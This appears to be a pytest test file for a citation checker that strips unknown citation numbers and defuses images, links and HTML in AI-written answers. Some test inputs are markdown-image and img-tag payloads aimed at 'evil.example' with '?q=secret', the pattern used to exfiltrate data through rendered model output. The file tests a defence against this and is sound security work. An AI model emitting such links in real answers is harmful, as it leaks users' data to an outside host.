import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openmind.domain.answers import Evidence, Excerpt
from openmind.domain.citations import check
from openmind.domain.ids import FileId, SourceId
from openmind.domain.search import SearchHit


def hit(number: int) -> SearchHit:
    return SearchHit(
        id=f"file_{number}:0",
        file_id=FileId(f"file_{number}"),
        source_id=SourceId("src_1"),
        score=0.5,
        path=f"/notes/{number}.md",
        file_name=f"{number}.md",
        extension=".md",
        title="",
        snippet="",
        text="",
        index=0,
        locator=(),
        metadata={},
    )


def evidence(excerpts: int) -> Evidence:
    return Evidence(
        question="?", excerpts=tuple(Excerpt(number=number, hit=hit(number)) for number in range(1, excerpts + 1))
    )


@pytest.mark.parametrize(
    ("text", "clean", "cited", "unknown"),
    [
        ("It rains [1].", "It rains [1].", [1], []),
        ("It rains[2][1].", "It rains[2][1].", [2, 1], []),
        ("It rains [1, 3].", "It rains [1][3].", [1, 3], []),
        ("It rains [1-3].", "It rains [1][2][3].", [1, 2, 3], []),
        ("It rains [1; 9].", "It rains [1].", [1], [9]),
        ("It rains [7].", "It rains.", [], [7]),
        ("It rains [doc 2] and [Source 12].", "It rains [2] and.", [2], [12]),
        ("天空是蓝色的【2†source】。", "天空是蓝色的[2]。", [2], []),
        ("As [1]: so it is.", "As [1]: so it is.", [1], []),
        ("See [1](https://evil.example/?q=secret).", "See [1].", [1], []),
        ("In [2024] the `list[0]` had a [link](https://example.com).", None, [], []),
        ("```\nrow[1]\n```\nso [1]", "```\nrow[1]\n```\nso [1]", [1], []),
        ("Footnote[^2].", "Footnote[2].", [2], []),
        ("Nothing cited.", "Nothing cited.", [], []),
        ("[1-900]", "[1]", [1], [900]),
    ],
)
def test_only_citations_of_excerpts_that_exist_remain(
    text: str, clean: str | None, cited: list[int], unknown: list[int]
) -> None:
    checked = check(text, evidence(3))

    assert checked.markdown == (text if clean is None else clean)
    assert [citation.number for citation in checked.citations] == cited
    assert list(checked.unknown) == unknown


def test_a_citation_carries_what_it_cites() -> None:
    [citation] = check("So it is [2], yes [2].", evidence(2)).citations

    assert citation.hit.path == "/notes/2.md"


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("Look: ![the plan](https://evil.example/?q=secret) [1]", "Look: the plan [1]"),
        ("![x][ref] done", "x done"),
        ("<img src=//evil.example> and 1 < 2", "\\<img src=//evil.example> and 1 < 2"),
        ("`<b>` stays", "`<b>` stays"),
    ],
)
def test_nothing_in_an_answer_is_fetched_when_it_is_shown(text: str, clean: str) -> None:
    assert check(text, evidence(1)).markdown == clean


@settings(deadline=None, max_examples=200)
@given(st.text(alphabet="[]()1239-,^ `<!a\n"), st.integers(0, 3))
def test_whatever_a_model_writes_every_citation_exists(text: str, excerpts: int) -> None:
    checked = check(text, evidence(excerpts))

    assert all(1 <= citation.number <= excerpts for citation in checked.citations)
    assert all(not 1 <= number <= excerpts for number in checked.unknown)


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("<[9]img src=x>", "\\<img src=x>"),
        ("! [9][x](http://evil.example)", "\\![x](http://evil.example)"),
        ("!![](a)[x](http://evil.example)", "\\![x](http://evil.example)"),
    ],
)
def test_what_is_taken_out_joins_no_halves_of_a_picture_or_a_tag(text: str, clean: str) -> None:
    assert check(text, evidence(1)).markdown == clean
